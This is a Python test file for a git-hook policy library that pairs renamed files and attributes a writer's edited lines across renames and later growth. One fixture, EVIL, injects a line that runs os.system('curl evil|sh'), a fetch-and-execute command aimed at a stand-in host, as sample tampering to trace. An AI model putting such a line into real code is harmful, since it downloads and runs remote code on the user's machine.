"""Renames paired as git pairs them (gentle_hooks.policy.renames), and a rename's writer
line read as in the path it came from (row A2 of gentle_hooks.policy.attribution)."""

from __future__ import annotations

from gentle_hooks.policy.attribution import PathChange, WriterEntry, carries_row, writer_delta
from gentle_hooks.policy.renames import SIMILAR, Side, grown_pairs, rename_pairs, similarity

APP = b"def add(a, b):\n    return a + b\n\ndef helper():\n    return 42\n"
EVIL = APP.replace(b"return a + b", b"return __import__('os').system('curl evil|sh') or a + b")


def side(path: str, content: bytes) -> Side:
    return Side(path, f"blob:{content!r}", content)


def test_a_moved_file_with_an_edit_pairs_with_its_old_path() -> None:
    moved = side("app2.py", EVIL.replace(b"42", b"43"))
    other = side("notes.py", b"x = 1\ny = 2\n")
    assert rename_pairs([side("app.py", EVIL)], [other, moved]) == {"app.py": moved}


def test_the_same_blob_pairs_first_and_each_path_once() -> None:
    same, near = side("b.py", APP), side("c.py", APP + b"# more\n")
    assert rename_pairs([side("a.py", APP)], [near, same]) == {"a.py": same}
    pairs = rename_pairs([side("a.py", APP), side("d.py", APP)], [same])
    assert list(pairs.values()) == [same]


def test_unlike_contents_do_not_pair() -> None:
    assert similarity(APP, b"something else\nentirely\n") < SIMILAR
    assert rename_pairs([side("a.py", APP)], [side("b.py", b"other = 1\n")]) == {}
    assert rename_pairs([Side("a.bin", "blob:1", None)], [Side("b.bin", "blob:2", None)]) == {}


def test_the_writers_one_line_renamed_with_an_edit_is_in_its_path() -> None:
    writer = WriterEntry("app.py", "blob:w", "blob:b", writer_delta(APP, EVIL))
    new = EVIL.replace(b"42", b"43")
    renamed = PathChange("app.py", "blob:b", "blob:n", APP, new)
    assert carries_row(renamed, writer) == "A2"


CALC = b"def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n"
GROWN = (
    CALC.replace(b"a - b", b"a + b", 1)
    + b"\n\ndef mul(a, b):\n    return a * b\n"
    + (b"\n\ndef div(a, b):\n    return a / b\n\n\ndef mod(a, b):\n    return a % b\n")
)


def test_a_file_moved_and_grown_pairs_only_as_grown() -> None:
    """Refuter r13s F1: too few lines in common of the longer side for git's pairing, yet
    the added side keeps three of the deleted side's four lines."""
    assert rename_pairs([side("app.py", CALC)], [side("calc.py", GROWN)]) == {}
    grown = side("calc.py", GROWN)
    assert grown_pairs([side("app.py", CALC)], [side("x.py", b"x = 1\n"), grown]) == {
        "app.py": grown
    }


def test_grown_pairs_need_a_longer_side_keeping_half_of_the_deleted_one() -> None:
    shorter = side("calc.py", b"def add(a, b):\n    return a + b\n")
    assert grown_pairs([side("app.py", CALC)], [shorter]) == {}
    tail = GROWN[GROWN.index(b"\n\n\ndef m") :]
    own = side("vec.py", b"def plus(a, b):\n    return a + b\n" + tail)
    assert grown_pairs([side("app.py", CALC)], [own]) == {}
    assert grown_pairs([Side("a.bin", "blob:1", None)], [Side("b.bin", "blob:2", None)]) == {}


def test_the_writers_fix_moved_and_grown_is_its_edit_in_its_path() -> None:
    writer = WriterEntry("app.py", "blob:w", "blob:b", writer_delta(CALC, GROWN[: len(CALC)]))
    assert carries_row(PathChange("app.py", "blob:b", "blob:n", CALC, GROWN), writer) == "A2"
    kept = GROWN.replace(b"a + b", b"a - b", 1)  # the fix thrown away, then moved and grown
    assert carries_row(PathChange("app.py", "blob:b", "blob:k", CALC, kept), writer) == "A5"
